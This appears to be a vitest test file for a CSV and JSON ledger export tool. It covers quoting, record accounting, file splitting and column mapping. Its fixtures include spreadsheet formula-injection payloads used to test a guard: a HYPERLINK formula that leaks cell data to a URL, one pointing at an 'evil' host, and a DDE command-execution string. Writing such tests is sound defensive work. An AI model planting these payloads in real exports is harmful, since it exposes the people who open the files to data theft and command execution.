import { describe, expect, it } from 'vitest';
import { importText, withField } from '../../../test-support/session';
import { csvCell, csvLine, guardFormula } from './csv-writer';
import Papa from 'papaparse';
import { columnIndex } from '../brand';

describe('CSV writing', () => {
  const d = { delimiter: ',', lineEnding: '\r\n', quoting: 'minimal' } as const;
  it('quotes only what RFC 4180 needs (and surrounding spaces), doubling quotes', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', 'x\ny', ' pad ', ''], d)).toBe('a,"b,c","say ""hi""","x\ny"," pad ",\r\n');
    expect(csvCell('a;b', { ...d, delimiter: ';' })).toBe('"a;b"');
  });
  it('round-trips through a parser with the explicit dialect', () => {
    const rows = [['', ';;'], ['"', '\r\n'], ['é😀', ' '], ['', '']];
    const text = rows.map((r) => csvLine(r, d)).join('');
    expect(Papa.parse(text, { delimiter: ',', newline: '\r\n', skipEmptyLines: false }).data.slice(0, 4)).toEqual(rows);
  });
  it('guards formulas but leaves signed numbers and phones alone', () => {
    expect(guardFormula('=HYPERLINK("http://x?"&A1)').value).toBe('\'=HYPERLINK("http://x?"&A1)');
    expect(guardFormula('@SUM(A1)').guarded).toBe(true);
    expect(guardFormula('=1+1\nx').guarded).toBe(true);
    expect(guardFormula('-2+3+cmd|\' /C calc\'!A0').guarded).toBe(true);
    expect(guardFormula('-250.00').guarded).toBe(false);
    expect(guardFormula('+33 1 42 14 20 00').guarded).toBe(false);
  });
});

const LEDGER = [
  'Client,Type,Invoice No,Payment No,Method,Amount,Date,Memo',
  'C-1,Invoice,1001,,,"1,250.00",05/01/2020,Retainer',
  'C-1,Payment,,5001,Check,-250,05/13/2020,=HYPERLINK("http://evil")',
  'C-2,,1002,,,-75.5,06/02/2020,no type: sign decides',
  'C-2,Transfer,1003,,,10,06/03/2020,unknown type',
  'C-3,Invoice,1001,,,20,06/04/2020,duplicate invoice number',
  '',
].join('\r\n');

describe('export', () => {
  it('accounts for every record: header + preamble + exported + rejected, and lists each rejected line in the report', async () => {
    const r = await importText(LEDGER, 'zencase-client-ledger');
    const e = r.exportAs();
    expect(e.summary).toMatchObject({ records: 6, headerAndPreamble: 1, dataRows: 5, exported: 2, rejected: 3 });
    expect(e.summary.headerAndPreamble + e.summary.exported + e.summary.rejected).toBe(e.summary.records);
    expect(r.text(e.data[0]!)).toBe(
      'Client Number,Transaction Type,Invoice Number,Payment Number,Payment Method,Amount,Transaction Date,Note\r\n' +
        'C-1,Credit,,5001,Check,250.00,05/13/2020,"\'=HYPERLINK(""http://evil"")"\r\n' +
        'C-2,Credit,1002,,,75.50,06/02/2020,no type: sign decides\r\n',
    );
    const report = r.text(e.report);
    for (const line of ['2,', '5,', '6,']) expect(report).toContain(`\r\n${line}error,`);
    expect(report).toContain('5,error,Transaction Type,Type,Transfer,not-allowed-value');
    expect(report).toContain('2,error,Invoice Number,Invoice No,1001,duplicate,"Must be unique, but also appears on line 6."');
    expect(r.text(e.rejected).split('\r\n').filter((l) => /^\d/.test(l)).map((l) => l.split(',')[0])).toEqual(['2', '5', '6']);
  });

  it('gives byte-identical output for the same input and mapping, whatever the read chunk size', async () => {
    const a = await importText(LEDGER, 'zencase-client-ledger');
    const b = await importText(LEDGER, 'zencase-client-ledger', { chunkSize: 7 });
    expect(a.text(a.exportAs().data[0]!)).toBe(b.text(b.exportAs().data[0]!));
    expect(a.text(a.exportAs().report)).toBe(b.text(b.exportAs().report));
  });

  it('writes JSON with exact numbers and no prototype surprises', async () => {
    const r = await importText(LEDGER, 'zencase-client-ledger');
    const json = JSON.parse(r.text(r.exportAs({ format: 'json' }).data[0]!)) as { ledgerEntries: Record<string, unknown>[] };
    expect(json.ledgerEntries[0]).toEqual({ clientNumber: 'C-1', transactionType: 'Credit', invoiceNumber: null, paymentNumber: 5001, paymentMethod: 'Check', amount: 250.0, transactionDate: '05/13/2020', note: '=HYPERLINK("http://evil")' });
    expect(r.text(r.exportAs({ format: 'json' }).data[0]!)).toContain('"amount": 250.00');
  });

  it('can leave formulas unguarded, for importers that must get the exact text', async () => {
    const r = await importText(LEDGER, 'zencase-client-ledger');
    const e = r.exportAs({ formulaGuard: false });
    expect(e.summary.guardedCells).toBe(0);
    expect(r.text(e.data[0]!)).toContain(',"=HYPERLINK(""http://evil"")"\r\n');
    expect(r.exportAs().summary.guardedCells).toBe(1);
  });

  it('splits exports above the target\'s records-per-file limit, each part with the header', async () => {
    const rows = Array.from({ length: 100_002 }, (_, i) => `C-${i % 50},${i % 2 === 0 ? 'Invoice' : 'Payment'},${i % 2 === 0 ? i + 1 : ''},${i % 2 === 1 ? i + 1 : ''},,${(i % 500) + 0.5},01/15/2024,`);
    const r = await importText(['Client,Type,Invoice No,Payment No,Method,Amount,Date,Memo', ...rows].join('\n'), 'zencase-client-ledger');
    const e = r.exportAs();
    expect(e.data.map((f) => [f.name, f.records])).toEqual([
      ['out-part-1-of-2.csv', 100_000],
      ['out-part-2-of-2.csv', 2],
    ]);
    expect(r.text(e.data[1]!).split('\r\n')[0]).toBe('Client Number,Transaction Type,Invoice Number,Payment Number,Payment Method,Amount,Transaction Date,Note');
  });

  it('writes the 9-parameter Billing header, or the 11 when DocumentDate and ReferenceNumber are used, with the chosen separator', async () => {
    const nine = await importText('PayToolID,Currency,Amount,Status,AccountID\n3,EUR,"1 250,00",Open,100234\n', 'billing-payments');
    expect(nine.text(nine.exportAs({ delimiter: ';' }).data[0]!)).toBe('PaymentID;PayToolID;CurrencyID;Total;Status;DocType;DocumentID;AccountID;PaymentNote\r\n;3;EUR;1250.00;Open;;;100234;\r\n');
    const eleven = await importText('PayToolID,Currency,Amount,Status,AccountID,Value date,Bank reference\n3,EUR,12.5,Hold,100234,2024-05-02,TRX-1\n', 'billing-payments');
    expect(eleven.text(eleven.exportAs().data[0]!)).toBe('PaymentID,PayToolID,CurrencyID,Total,Status,DocType,DocumentID,AccountID,PaymentNote,DocumentDate,ReferenceNumber\r\n,3,EUR,12.5,Hold,,,100234,,2024-05-02,TRX-1\r\n');
  });

  it('joins several columns into one field and writes constants', async () => {
    const r = await importText('Prénom,Nom,E-mail\nClaire,Martin,c@m.fr\n', 'upflow-contacts', {
      mapping: (m) => withField(withField(m, 'customerName', { source: { kind: 'columns', columns: [columnIndex(0), columnIndex(1)], separator: ' ' } }), 'position', { source: { kind: 'constant', value: 'PAYER' } }),
    });
    expect(r.text(r.exportAs().data[0]!).split('\r\n')[1]).toBe(',Claire Martin,c@m.fr,Claire,Martin,,,PAYER,');
  });
});
